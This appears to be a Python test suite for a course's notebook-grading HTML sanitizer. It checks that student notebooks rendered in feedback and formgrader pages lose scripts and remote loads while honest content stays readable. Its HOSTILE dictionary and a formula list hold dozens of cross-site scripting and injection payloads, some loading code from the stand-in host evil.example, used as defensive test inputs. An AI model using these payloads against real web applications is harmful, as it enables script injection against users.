"""Hostile submissions in every place of a notebook, and honest ones that must stay readable."""

import base64
import json
import re
from collections import Counter
from html import escape, unescape
from html.parser import HTMLParser
from itertools import product

import nbformat
import pytest
from bleach._vendor import html5lib
from course import REPOSITORY, released_of, source_of
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.filters.ansi import ansi2html
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from pages import bounded_work, exporting
from traitlets.config import Config

from backprop.report import Finding, Note, Report, Row
from backprop_classroom.html import notebooks
from backprop_classroom.html.export import PageExporter
from backprop_classroom.html.notebooks import clean_cell_metadata, clean_notebook, clean_outputs
from backprop_classroom.html.pages import with_formulas
from backprop_classroom.html.sanitize import _TEX, LONGEST_TEXT, clean_html, clean_text
from backprop_classroom.release import lessons
from backprop_classroom.settings import course_settings

PNG = base64.b64encode(
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
).decode()
DRAWING = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>').decode()
PAGE_IN_BASE64 = base64.b64encode(b"<script>alert(1)</script>").decode()

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in odd case": "<ScRiPt>alert(1)</sCrIpT >",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script within a script": "<scr<script></script>ipt>alert(1)</scr</script>ipt>",
    "script broken by a comment": "<scr<!-- -->ipt>alert(1)</script>",
    "script with a slash": "<script/x>alert(1)</script/x>",
    "script never closed": "<script>alert(1)//",
    "script as a module": '<script type="module">import "https://evil.example/x.mjs"</script>',
    "script for MathJax": '<script type="text/x-mathjax-config">alert(1)</script>',
    "script with a null byte": "<scr\0ipt>alert(1)</scr\0ipt><img src=x onerr\0or=alert(1)>",
    "script as entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)>",
    "drawing that loads": "<svg/onload=alert(1)>",
    "drawing with a script": "<svg><script>alert(1)</script></svg>",
    "drawing with a link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "drawing that uses another": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "drawing that animates": '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "drawing with a foreign object": "<svg><foreignObject><iframe onload=alert(1)></svg>",
    "picture with a handler": "<img src=x onerror=alert(1)>",
    "picture with slashes": "<img/src=x/onerror=alert(1)>",
    "picture never closed": "<img src=x onerror=alert(1) ",
    "picture with a quote": '"><img src=x onerror=alert(1)>',
    "picture with another quote": "'><img src=x onerror=alert(1)>",
    "picture with a backtick": "<img src=`x` onerror=`alert(1)`>",
    "picture from elsewhere": "<img src=https://evil.example/x.png>",
    "picture from a set": '<img srcset="https://evil.example/x.png 1x">',
    "picture beside the notebook": '<img src="files/x.png"><img src="../secret.png">',
    "picture of another type": f'<img src="data:text/html;base64,{PAGE_IN_BASE64}">',
    "picture that is none": f'<img src="data:image/png;base64,{PAGE_IN_BASE64}">',
    "link that runs": "<a href=javascript:alert(1)>x</a>",
    "link that runs in disguise": "<a href=' &#106;ava&#x09;script&colon;alert(1)'>x</a>",
    "link to a page in itself": f"<a href=data:text/html;base64,{PAGE_IN_BASE64}>x</a>",
    "link elsewhere": '<a href="https://evil.example" target=_blank ping="//evil.example">x</a>',
    "link within the server": '<a href="/formgrader/manage_students/x">x</a>',
    "another page at once": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "another base": '<base href="https://evil.example/">',
    "style sheet from elsewhere": "<link rel=stylesheet href=https://evil.example/x.css>",
    "frame with a page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame from elsewhere": "<iframe src=https://evil.example></iframe>",
    "object": "<object data=https://evil.example></object><embed src=https://evil.example>",
    "form": "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "button": "<button formaction=javascript:alert(1)>x</button><isindex type=image src=//e.x>",
    "film": "<video src=//evil.example poster=//evil.example/p.png><source onerror=alert(1)>",
    "sound": "<audio src=x onerror=alert(1)></audio>",
    "style sheet": "<style>@import 'https://evil.example/x.css'; * {display: none}</style>",
    "style that loads": '<p style="background:url(https://evil.example/x.png)">x</p>',
    "style that loads a cursor": '<p style="cursor: url(//evil.example/x.cur), auto">x</p>',
    "style in disguise": '<p style="background:\\75 rl(//evil.example)">x</p>',
    "style behind an entity": '<p style="color:red&#59;background:url&#40;//evil.example)">x</p>',
    "style with a set": "<p style=\"background:image-set('https://evil.example/x' 1x)\">x</p>",
    "style over the page": '<div style="position:fixed;top:0;width:100%;z-index:9">full marks</div>',
    "style over the cell above": '<div style="margin-top:-99em">full marks</div>',
    "table with a background": "<table background=https://evil.example/x.png><tr><td>x</table>",
    "handler on any element": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "handler with a focus": "<b tabindex=1 autofocus onfocus=alert(1)>x</b>",
    "mathematics with a link": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "mathematics that turns into a style": (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
        'onerror=alert(1)&gt;">'
    ),
    "mathematics with an annotation": (
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>"
    ),
    "a paragraph that moves out": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "text area": "<textarea></textarea><img src=x onerror=alert(1)>",
    "title": "</title><img src=x onerror=alert(1)>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "plain text to the end": "<plaintext><xmp><listing>",
    "cell that ends early": "</pre></div></td></table></section></body><script>alert(1)</script>",
    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment never closed": "<!-- <img src=x onerror=alert(1)>",
    "character data": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "instruction": "<?xml-stylesheet href='https://evil.example/x.xsl'?><!DOCTYPE x>",
    "fields of formgrader": '<input id="chain" class="score"><b id="chain" data-link="x" class="help">',
    "a language with fields": "x score tabbable",
    "template of the server": "{{ 7 * 7 }}{% include 'x' %}<%= alert(1) %>${alert(1)}",
    "colours with a tag": "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m\x1b[38m\x1b[48;5m",
    "colours that quote": '\x1b["><img src=x onerror=alert(1)>m',
    "markdown picture": "![x](https://evil.example/x.png)",
    "markdown picture with a quote": '![x](https://evil.example/"onerror="alert(1))',
    "markdown link that runs": "[x](javascript:alert(1)) <javascript:alert(1)>",
    "markdown link elsewhere": "[x][1] <https://evil.example>\n\n[1]: https://evil.example",
    "markdown block": "<div>\n\n**x** <img src=x onerror=alert(1)>\n\n</div>",
    "markdown code": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "markdown code of a language": '```"><img src=x onerror=alert(1)>\nx\n```',
    "markdown heading": '# x <img src=x onerror=alert(1)> "onclick="alert(1)',
    "markdown attachment": "![x](attachment:x.png)",
    "formula that links": r"$\href{javascript:alert(1)}{x}$ \(\href{https://evil.example}{x}\)",
    "formula broken by a comment": r"$\hr<!-- -->ef{javascript:alert(1)}{x}$",
    "formula broken by a tag": r"$\hr<wbr>ef{javascript:alert(1)}{x}$ $\hr<a>ef{//evil}{x}$",
    "formula behind entities": r"$&#92;href{javascript:alert(1)}{x} \&#104;ref{//evil}{x}$",
    "formula with styles": r"$$\style{position:fixed}{x}\class{score}{x}\cssId{chain}{x}$$",
    "formula that loads": r"\begin{align}\require{bbox}\unicode[x]{65}\end{align}",
    "formula with another meaning": r"$\def\frac#1#2{10}\newcommand{\sigma}{0}\let\sum=\prod$",
}  # fmt: skip

RUNNING = {
    "script", "iframe", "frame", "object", "embed", "applet", "base", "meta", "link", "style",
    "form", "input", "button", "textarea", "svg", "math", "video", "audio", "source", "template",
    "noscript",
}  # fmt: skip
ADDRESSES = {
    "src", "href", "srcset", "action", "formaction", "poster", "data", "background", "ping",
    "srcdoc", "xlink:href", "manifest", "lowsrc", "longdesc", "cite",
}  # fmt: skip
WORDS = {"alt", "title", "aria-label"}  # read, and nothing else
FIELDS = {  # by which formgrader and MathJax find what they work on
    "score", "extra-credit", "comment", "tabbable", "help", "nbgrader_cell", "name-shown",
    "name-hidden", "mark-graded", "full-credit", "no-credit", "tex2jax_process",
}  # fmt: skip
# Of a formula: what only forms it.
FORMING = {
    "math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "mstyle", "mpadded", "mfrac", "msqrt",
    "mroot", "msub", "msup", "msubsup", "munder", "mover", "munderover", "mtable", "mtr", "mtd",
}  # fmt: skip
MOVING = {"href", "class", "style", "id", "height", "depth", "voffset", "mathbackground"}
OURS = re.compile(r"#|data:image/(png|jpeg|gif|svg\+xml);base64,[A-Za-z0-9+/=]+$")
TEX = re.compile(rf"\\(?:{_TEX})(?![a-zA-Z])")


def dangers_of(page):
    """Count what runs, loads, links or leaves its place in HTML, as a browser would read it."""
    found = Counter()
    _look(html5lib.parse(page, namespaceHTMLElements=False), found, code=False)
    return found


def _look(element, found, code):
    name = element.tag.rpartition("}")[2] if isinstance(element.tag, str) else "comment"
    code = code or name in ("pre", "code", "script", "style", "textarea", "math")  # no formula
    forms = name in FORMING and "MathML" in element.tag and not MOVING & {*element.attrib}
    if (name in RUNNING or name != element.tag) and not forms:
        found[name, (element.text or "")[:300], tuple(sorted(map(str, element.attrib)))] += 1
    for key, value in element.attrib.items():
        key, flat = str(key), re.sub(r"[\s\0]", "", unescape(value)).lower()
        if (
            (key in ADDRESSES and not OURS.match(value))
            or (key == "style" and re.search(r"url|image|import|position|:-|\\", flat))
            or (key == "class" and FIELDS & set(value.split()))
            or (key not in WORDS and re.search("(java|vb)script:|data:text", flat))
            or (key == "id" and not value.startswith("cell-id="))
            or key.startswith(("on", "data-"))
        ):
            found[name, key, value] += 1
    for text in [element.text, *[child.tail for child in element]]:
        if not code and text:
            found.update(("formula", command) for command in TEX.findall(text))
    for child in element:
        _look(child, found, code)


def hostile_outputs(text):
    """Outputs with a text wherever an output can hold one."""
    kinds = [
        "text/plain", "text/html", "text/markdown", "text/latex", "text/vnd.mermaid",
        "image/svg+xml", "image/png", "image/jpeg", "image/gif", "application/javascript",
        "application/json", "application/pdf", "application/vnd.jupyter.widget-view+json", text,
    ]  # fmt: skip
    plain = {"width": f"1 {text}", "height": text, "alt": text, "unconfined": text, text: text}
    metadata = {
        "image/png": plain, "image/jpeg": plain, "text/html": {"isolated": True},
        "filenames": {"image/png": "https://evil.example/x.png", "image/jpeg": text}, "alt": text,
    }  # fmt: skip
    pictures = {"image/png": PNG, "text/plain": text}
    return [
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "stream", "name": text, "text": [text, text]},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]},
        {"output_type": "error", "ename": text, "evalue": text},
        *[{"output_type": "display_data", "data": {k: text}, "metadata": metadata} for k in kinds],
        {"output_type": "display_data", "data": dict.fromkeys(kinds, text), "metadata": metadata},
        {"output_type": "display_data", "data": pictures, "metadata": metadata},
        {
            "output_type": "execute_result", "execution_count": text, "metadata": metadata,
            "data": {"text/html": [text], "text/plain": [text]},
        },
        {"output_type": text, "data": {"text/html": text}},
    ]  # fmt: skip


def hostile_notebook(text):
    """A notebook with a text in every place that a page could show."""
    entry = {"schema_version": 3, "grade": True, "solution": True, "locked": False, "task": False}
    entry |= {"grade_id": "derivation", "points": 3}
    odd = entry | {"grade_id": text, "comment": text, "score": text, "points": text}
    metadata = {"tags": [text], "name": text, "alt": text, "raw_mimetype": "text/html", text: text}
    picture = {"x.png": {"image/png": text, "text/html": text}, text: {text: text}}

    def cell(kind, number, **details):
        return {"cell_type": kind, "id": f"c{number}", "source": text, "metadata": {}} | details

    cells = [
        cell("markdown", 0, metadata=metadata),
        cell("markdown", 1, metadata={"nbgrader": entry}, attachments=picture),
        cell("markdown", 2, metadata={"nbgrader": odd}),
        cell("raw", 3),
        cell("raw", 4, metadata={"raw_mimetype": ""}),
        cell("raw", 5, metadata=metadata, attachments=picture),
        cell("code", text, execution_count=text, metadata=metadata, outputs=hostile_outputs(text)),
        cell("code", 6, execution_count=1, outputs=text, metadata={"nbgrader": odd}),
        cell(text, 7, type=text),
    ]
    kernel = {"name": text, "display_name": text, "language": text}
    metadata = {
        "title": text, "authors": [{"name": text}], "kernelspec": kernel, text: text,
        "language_info": {"name": text, "pygments_lexer": text},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {text: text}}},
    }  # fmt: skip
    return nbformat.from_dict(
        {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    )


@pytest.fixture(scope="module")
def own(feedback):
    """What runs and loads in a feedback page by itself, for a notebook that harms nobody."""
    return dangers_of(feedback(hostile_notebook("no harm")))


def by_nbconvert(markdown):
    """Render markdown as nbgrader does without the course's settings."""
    attachments = {"x.png": {"text/html": PAGE_IN_BASE64}}
    renderer = IPythonRenderer(False, attachments=attachments, exclude_anchor_links=True)
    return MarkdownWithMath(renderer).render(markdown)


def test_the_search_finds_what_is_hostile_before_it_is_cleaned():
    found = [t for t in HOSTILE.values() if dangers_of(t) or dangers_of(by_nbconvert(t))]
    assert len(found) > 75 and len(HOSTILE) - len(found) <= 10


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_outputs_are_clean_and_valid(name):
    cleaned = clean_outputs(hostile_outputs(HOSTILE[name]))
    assert len(cleaned) > 15
    nbformat.validate(new_notebook(cells=[new_code_cell(outputs=cleaned)]))
    for output in cleaned:
        assert set(output.get("data", {})) <= {
            "text/plain", "text/html", "image/png", "image/jpeg"
        }  # fmt: skip
        assert not dangers_of(output.get("data", {}).get("text/html", ""))
        assert set(output.get("metadata", {}).get("image/png", {})) <= {"alt"}
    assert clean_outputs(cleaned) == cleaned


# The short run makes pages of some, and cleans the outputs of all of them above.
@pytest.mark.parametrize(
    "name",
    [
        pytest.param(name, marks=[pytest.mark.long] * (number % 6 > 0))
        for number, name in enumerate(HOSTILE)
    ],
)
def test_a_hostile_notebook_makes_a_clean_feedback_page(name, feedback, own):
    page = feedback(hostile_notebook(HOSTILE[name]))
    assert dangers_of(page) - own == Counter()


@pytest.mark.parametrize("every", [3, pytest.param(1, marks=pytest.mark.long)])
def test_hostile_notebooks_make_clean_pages_in_formgrader(every, formgrader):
    # Many of them in one notebook: what one hides, the others show. Formgrader refuses a
    # notebook that is not valid nbformat before it comes to cleaning it.
    pages = []
    for texts in (["no harm"], [*HOSTILE.values()][::every]):
        notebook = new_notebook(metadata=hostile_notebook(HOSTILE["link elsewhere"]).metadata)
        notebook.cells = [cell for text in texts for cell in valid_cells(text)]
        for number, cell in enumerate(notebook.cells):
            cell.id = f"c{number}"
        pages.append(dangers_of(formgrader(notebook)))
    assert pages[1].keys() - pages[0].keys() == set()


def valid_cells(text):
    """The cells of a hostile notebook that nbformat has nothing against."""
    *cells, code, _, _ = hostile_notebook(text).cells
    for cell in [*cells, code]:
        cell.metadata.pop("name", None)
        if "tags" in cell.metadata:
            cell.metadata.tags = [text.replace(",", " ").replace("\n", " ")]
    code.execution_count = None
    code.outputs = [
        output
        for output in code.outputs
        if output.output_type in ("stream", "display_data") or "traceback" in output
    ]
    return [*cells, code]


def test_a_command_cannot_be_put_together_from_two_halves():
    # MathJax reads on over a comment and over <wbr>, browsers resolve entities.
    for half in ("hr<wbr>ef", "hr<!-- -->ef", "h<a>r</a>ef", "&#104;ref", "hr\x00ef"):
        html = clean_html(rf"$\{half}{{x}}{{y}}$")
        assert "<" not in html and TEX.search(html) is None


def test_a_folder_of_any_name_is_written_as_text_in_formgrader(formgrader, own):
    name = "<img src=x onerror=alert(1)>\"'"
    details = dict.fromkeys(("student", "first_name", "last_name", "notebook_path"), name)
    page = formgrader(new_notebook(cells=[new_markdown_cell("x")]), **details)
    assert "<img" not in page and page.count("&lt;img src=x onerror=alert(1)&gt;") >= 2
    assert dangers_of(page).keys() - dangers_of(formgrader(new_notebook())).keys() == {
        ("a", "data-link", name)  # the way to the live notebook, in which it is an address
    }


# Formulas, and what a page loads


class Loaded(HTMLParser):
    """The addresses that a page loads by itself, and the text of its formulas."""

    def __init__(self, page):
        super().__init__()
        self.addresses, self.formulas = [], 0
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.formulas += tag == "math"
        if tag in ("script", "link", "img", "iframe", "object", "video", "audio", "source"):
            given = dict(attributes)
            self.addresses += [given[name] for name in ("src", "href", "data") if given.get(name)]


@pytest.mark.parametrize("place", ["feedback", "formgrader"])
def test_a_page_loads_nothing_from_a_network_and_its_formulas_are_in_it(place, request):
    page = request.getfixturevalue(place)(source_of("02_forward_pass"), base_url="/course")
    loaded = Loaded(page)
    assert [one for one in loaded.addresses if not re.match("data:image/|/course/", one)] == []
    assert not re.search(r"import .*https?://|@import|url\(['\"]?(https?:)?//", page)
    assert "MathJax" not in page
    assert loaded.formulas > 30
    # In a page as nbgrader makes it without our templates, a library comes from elsewhere.
    config = course_settings(REPOSITORY)
    del config.HTMLExporter["extra_template_basedirs"]
    converter = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    usual = exporting(converter.exporter_class(parent=converter, config=converter.config))
    addresses = Loaded(usual(new_notebook())).addresses
    assert any(one.startswith("https://") for one in addresses)


@pytest.mark.parametrize("place", ["feedback", "formgrader"])
def test_a_hint_can_be_seen_to_unfold_and_a_table_has_lines(place, request):
    page = request.getfixturevalue(place)(new_notebook())
    style = "".join(re.findall("<style[^>]*>(.*?)</style>", page, re.DOTALL))
    assert re.search(r"summary \{[^}]*display: list-item", style)
    assert re.search(r"\.rendered_html td \{[^}]*padding[^}]*border-bottom", style)


def test_formulas_are_found_where_a_notebook_shows_them_and_not_in_code():
    text = "<p>$x_1$ and $$x_2$$ and \\(x_3\\) and \\[x_4\\]</p><pre>$x_5$</pre><code>$x_6$</code>"
    page = with_formulas(text + r"<p>\begin{align}x_7 &amp;= 1\end{align} costs $7</p>")
    assert Loaded(page).formulas == 5
    assert "<pre>$x_5$</pre><code>$x_6$</code>" in page and page.endswith("costs $7</p>")
    assert page.count('display="block"') == 3


def test_a_formula_that_cannot_be_read_stays_as_it_was_written():
    for odd in ("$a^b^c$ &lt; 2", "$" + "x" * 1_001 + "$", r"$\def\a{\a\a}\a$"):
        assert with_formulas(f"<p>{odd}</p>") == f"<p>{odd}</p>"


@pytest.mark.parametrize(
    "formula",
    [
        r"\text{<img src=x onerror=alert(1)>}", r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
        r"\text{</math><script>alert(1)</script>}", r"\unicode{x3c}script\unicode{x3e}",
        r"x&amp;#x3c;img src=x onerror=alert(1)&amp;#x3e;", r"\href{javascript:alert(1)}{x}",
        r"\rlap{full marks}x", r"\hspace{-99em}x", r"\smash{x}", r"\raise 99em x",
        r"\color{red;position:fixed}{x}", r'\begin{array}{c" onload="alert(1)}x\end{array}',
    ],
)  # fmt: skip
def test_no_formula_brings_anything_into_a_page(formula):
    # Not cleaned before, as if that had missed it.
    page = with_formulas(f"<p>${formula.replace('<', '&lt;').replace('>', '&gt;')}$</p>")
    assert dangers_of(page) - Counter({("formula", "href"): 9, ("formula", "unicode"): 9}) == {}


def test_an_attribute_is_no_place_for_a_formula():
    picture = f'<img alt="a > $x$ &quot; b" src="data:image/png;base64,{PNG}">'
    assert with_formulas(picture) == picture


@pytest.mark.parametrize("mark", [r"\(", r"\[", r"\begin{a}", "$", "$$", "$x$ ", "$x_{{{i}}}$ "])
def test_hostile_formulas_do_not_keep_the_grader_busy(mark):
    text = "".join(mark.replace("{i}", str(i)) for i in range(90_000 // len(mark)))
    with bounded_work():
        with_formulas(f"<p>{text}</p>")


# What honest work shows


def shape_of(page):
    """What HTML shows: its tags, their attributes apart from style and class, and its text."""
    shape = []
    for element in html5lib.parse(page, namespaceHTMLElements=False).iter():
        attributes = {k: v for k, v in element.attrib.items() if k not in ("style", "class")}
        shape.append((element.tag, attributes, element.text or "", element.tail or ""))
    return shape


def styles_of(page):
    styles = [style.rstrip(";").split(";") for style in re.findall('style="([^"]*)"', page)]
    return [[part.strip() for part in style] for style in styles]


WRONG = Report(
    "chain",
    2.0,
    0.5,
    (Finding("wrong-value", "dW1", "expected 1 < 2 & `3`", ("A question?", "The formula.")),),
    (
        Row("dW1", False, "(2, 2)", "(2, 2)", ((0.0, 0.5), (0.25, 0.0))),
        Row("db1", True, "a number", "a number"),
    ),
)
TO_DO = Report("chain", 2.0, 0.0, (Finding("not-implemented", "", "write it"),))


@pytest.mark.parametrize("card", [WRONG, TO_DO, Report("chain", 2.0, 1.0), Note("see `chain`")])
def test_the_cards_of_our_own_checks_stay_as_they_are(card):
    html = card._repr_html_()
    assert shape_of(clean_html(html)) == shape_of(html)
    assert styles_of(clean_html(html)) == styles_of(html)


@pytest.mark.parametrize("lesson", lessons(REPOSITORY))
def test_all_that_the_lessons_show_stays_as_it_is(lesson):
    cells = [cell for cell in source_of(lesson).cells if cell.cell_type == "code" and cell.outputs]
    assert len(cells) > 10
    for cell in cells:
        cleaned = clean_outputs(cell.outputs)
        assert [one.output_type for one in cleaned] == [one.output_type for one in cell.outputs]
        for before, after in zip(cell.outputs, cleaned):
            data, kept = before.get("data", {}), after.get("data", {})
            assert data.keys() == kept.keys()
            for kind in data.keys() - {"text/html"}:
                assert kept[kind].strip() == data[kind].strip()
            if "<script" in data.get("text/html", ""):
                continue  # a figure that answers to the hand: its still picture and words stay
            assert shape_of(kept.get("text/html", "")) == shape_of(data.get("text/html", ""))
            assert after.get("metadata") == before.get("metadata")


@pytest.mark.parametrize(
    "lesson",
    [
        pytest.param(lesson, marks=[pytest.mark.long] if lesson != "03_backward_pass" else [])
        for lesson in lessons(REPOSITORY)
    ],
)
def test_a_page_reads_as_it_would_without_cleaning(lesson, feedback):
    config = course_settings(REPOSITORY)
    # As nbconvert reads markdown, which knows by itself where formulas are.
    config.HTMLExporter = Config({"filters": {"markdown2html": PageExporter().markdown2html}})
    converter = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    plain = exporting(converter.exporter_class(parent=converter, config=converter.config))
    notebook = source_of(lesson)
    for cell in notebook.cells:
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            data.pop("image/png", None)  # which takes time, and has no words
            if "<script" in data.get("text/html", ""):
                del data["text/html"]  # a figure that answers to the hand; its words are text too
    page, uncleaned = feedback(notebook), plain(notebook)
    assert read(page) == read(uncleaned) and len(read(page)) > 20_000
    assert page.count("<math") == uncleaned.count("<math") > 20


def read(page):
    """The words of a page, without blanks, pictures, and the links that headings have."""
    page = re.sub('base64,[^"]*', "", page)
    body = html5lib.parse(page, namespaceHTMLElements=False).find("body")
    return "".join("".join(body.itertext()).replace("¶", "").split())


PANDAS = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type { vertical-align: middle; }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;"><th></th><th>loss</th><th>a &lt; b</th></tr>
  </thead>
  <tbody>
    <tr><th rowspan="2" scope="row">xor</th><td>0.25</td><td>NaN</td></tr>
  </tbody>
</table>
<p>1 rows × 2 columns</p>
</div>"""


def test_a_table_keeps_its_cells_and_loses_its_style_sheet():
    (output,) = clean_outputs([shown({"text/html": PANDAS, "text/plain": "   loss\n0  0.25"})])
    html = output.data["text/html"]
    assert shape_of(html) == shape_of(re.sub("(?s)<style.*</style>", "", PANDAS))
    assert "only-of-type" not in html and 'style="text-align: right;"' in html
    assert output.data["text/plain"] == "   loss\n0  0.25"


def test_pictures_keep_their_bytes_their_size_and_their_words():
    words = 'Loss falls from 0.25 to 0.01; x < 1 & "y" > 2.'
    metadata = {"image/png": {"alt": words, "width": 300, "height": 200}}
    data = {"image/png": PNG + "\n", "text/plain": "<Figure size 640x480 with 1 Axes>"}
    (output,) = clean_outputs([shown(data, metadata)])
    assert output == shown(data | {"image/png": PNG}, metadata)


@pytest.mark.parametrize(
    "metadata",
    [{"image/png": {"width": "1 onerror=x"}}, {"image/png": {"width": -1, "alt": 3}}, [], None],
)
def test_a_size_that_is_no_number_is_left_out(metadata):
    (output,) = clean_outputs([shown({"image/png": PNG}, metadata)])
    assert output.metadata == {}


def test_a_picture_within_html_stays():
    for kind, picture in (("png", PNG), ("svg+xml", DRAWING)):
        html = f'<img src="data:image/{kind};base64,{picture}" alt="a < b" width="28">'
        assert shape_of(clean_html(html)) == shape_of(html)


def test_a_coloured_traceback_keeps_its_colours():
    ipython = (
        "\x1b[31m---------\x1b[39m\n\x1b[31mValueError\x1b[39m\n\x1b[36mFile \x1b[39m"
        "\x1b[32m<ipython>:1\x1b[39m\n\x1b[32m----> \x1b[39m\x1b[32m1\x1b[39m \x1b[38;5;28;01mraise"
        "\x1b[39;00m \x1b[38;2;0;135;0mValueError\x1b[39m(\x1b[1;31m'a < b'\x1b[0m)\x1b[m"
    )
    error = {"ename": "ValueError", "evalue": "a < b", "traceback": ["Traceback", ipython]}
    assert clean_outputs([{"output_type": "error"} | error]) == [{"output_type": "error"} | error]


def test_prints_in_a_row_become_one_and_progress_bars_stay_readable():
    prints = [{"output_type": "stream", "name": "stdout", "text": text} for text in "abc"]
    bar = {"output_type": "stream", "name": "stderr", "text": ["\r50%|", "█\x1b[A\n"]}
    assert clean_outputs([*prints, bar, prints[0]]) == [
        {"output_type": "stream", "name": "stdout", "text": "abc"},
        {"output_type": "stream", "name": "stderr", "text": "\r50%|█\n"},
        {"output_type": "stream", "name": "stdout", "text": "a"},
    ]


MARKDOWN = r"""## The error of a unit

With $\delta^{(y)}_1 = a < b \text{ & } c$ and **bold**:

$$\begin{aligned} \frac{\partial C}{\partial w_1} &= \sum_i x_i \\ y &= 2 \end{aligned}$$

| value | shape |
|:---|---:|
| `dW1` | (2, 3) |

```python
dW1 = delta @ X.T  # a < b
```

- [x] done
- [ ] open

<details><summary>Hint</summary>

What is ~~2~~ 3?

</details>
"""


def test_markdown_keeps_mathematics_tables_code_and_hints():
    (output,) = clean_outputs([shown({"text/markdown": MARKDOWN})])
    html = output.data["text/html"]
    root = html5lib.parse(html, namespaceHTMLElements=False)
    text = "".join(root.itertext())
    for formula in re.findall(r"\${1,2}[^$]+\${1,2}", MARKDOWN):
        assert formula in text
    assert [cell.text for cell in root.iter("td")][1] == "(2, 3)"
    assert "".join(root.find(".//pre").itertext()) == "dW1 = delta @ X.T  # a < b\n"
    assert root.find(".//details/summary").text == "Hint" and root.find(".//del").text == "2"
    assert "[x] done" in text and "[ ] open" in text
    assert '<span class="c1">' in html


def test_a_formula_that_is_shown_by_code_stays_a_formula():
    latex = {"text/latex": r"$\displaystyle a < \frac{1}{2}$", "text/plain": "a < 1/2"}
    (output,) = clean_outputs([shown(latex)])
    assert "".join(html5lib.parse(output.data["text/html"]).itertext()) == latex["text/latex"]


def test_a_picture_within_html_that_is_none_keeps_its_words():
    for picture in (PAGE_IN_BASE64, "x", "", base64.b64encode(b"<svg><!ENTITY a>").decode()):
        for kind in ("png", "jpeg", "gif", "svg+xml", "webp", "html"):
            html = clean_html(f'<img src="data:image/{kind};base64,{picture}" alt="a net">')
            assert html == '<img alt="a net">'


def test_of_links_the_text_stays():
    html = clean_html('see <a href="https://evil.example">the <b>book</b></a>, page 3')
    assert html == "see the <b>book</b>, page 3"


def test_a_picture_pasted_into_an_answer_is_shown(feedback):
    cell = new_markdown_cell("my drawing: ![net](attachment:net.png)")
    cell.attachments = {"net.png": {"image/png": PNG}}
    page = feedback(new_notebook(cells=[cell]))
    (picture,) = re.findall("<img [^>]*>", page)
    assert 'alt="net"' in picture and f'src="data:image/png;base64,{PNG}"' in picture


def test_a_picture_without_words_says_that_it_has_none(feedback):
    drawn = new_output("display_data", {"image/png": PNG})
    shown = new_output("display_data", {"text/html": f'<img src="data:image/png;base64,{PNG}">'})
    page = feedback(new_notebook(cells=[new_code_cell("plot()", outputs=[drawn, shown])]))
    assert page.count("<img ") == page.count('alt="The notebook has no description of it."') == 2


def test_an_answer_with_a_picture_that_is_missing_is_shown_as_it_was_written(feedback):
    page = feedback(new_notebook(cells=[new_markdown_cell("so: ![net](attachment:net.png)")]))
    assert "<pre>so: ![net](attachment:net.png)</pre>" in page


def test_a_long_answer_is_shown_as_it_was_written(feedback):
    answer = "because **a < b** &lt; " * 2_000
    page = feedback(new_notebook(cells=[new_markdown_cell(answer)]))
    assert f"<pre>{escape(answer)}</pre>" in page


# What is left out, and what it says


def shown(data, metadata=None):
    metadata = {} if metadata is None else metadata
    return {"output_type": "display_data", "data": data, "metadata": metadata}


@pytest.mark.parametrize(
    "kind",
    ["application/javascript", "image/svg+xml", "application/pdf", "application/vnd.vega.v5+json"],
)
def test_what_is_left_out_is_named(kind):
    (output,) = clean_outputs([shown({kind: {"a": "x"}, "text/plain": "<Chart>"})])
    assert output.data == {"text/plain": f"<Chart>\n(left out: {kind})"}


def test_html_of_which_nothing_is_left_gives_way_to_text():
    (output,) = clean_outputs([shown({"text/html": "<script>x</script>", "text/plain": "y"})])
    assert output.data == {"text/plain": "y\n(left out: text/html)"}


@pytest.mark.parametrize("data", ["", "x", "AAAA", PNG[1:], base64.b64encode(b"GIF89a").decode()])
def test_a_picture_that_is_none_is_left_out(data):
    (output,) = clean_outputs([shown({"image/png": data})])
    assert output.data == {"text/plain": "(left out: image/png (not valid))"}


def test_long_text_is_cut_and_says_so():
    (output,) = clean_outputs([{"output_type": "stream", "name": "stdout", "text": "a" * 10**6}])
    assert len(output.text) <= LONGEST_TEXT
    assert output.text.endswith("a\n(left out: 950100 more characters)")
